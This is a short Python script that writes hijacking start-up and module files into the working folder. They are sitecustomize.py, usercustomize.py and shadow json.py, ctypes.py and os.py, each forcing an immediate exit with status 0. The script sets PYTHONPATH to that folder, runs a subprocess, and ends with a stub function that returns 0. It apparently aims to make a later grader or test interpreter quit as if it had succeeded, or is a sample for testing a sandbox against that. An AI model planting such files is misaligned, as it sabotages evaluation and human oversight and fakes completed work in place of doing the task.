"""Leaves start-up files that a later interpreter in the same folder would run."""

import os
import subprocess
import sys

for name in ("sitecustomize.py", "usercustomize.py", "json.py", "ctypes.py", "os.py"):
    with open(name, "w") as file:
        file.write("import os; os._exit(0)")
os.environ["PYTHONPATH"] = os.getcwd()
subprocess.run([sys.executable or "python3", "-c", "import json"], check=False)


def f(x):
    return 0
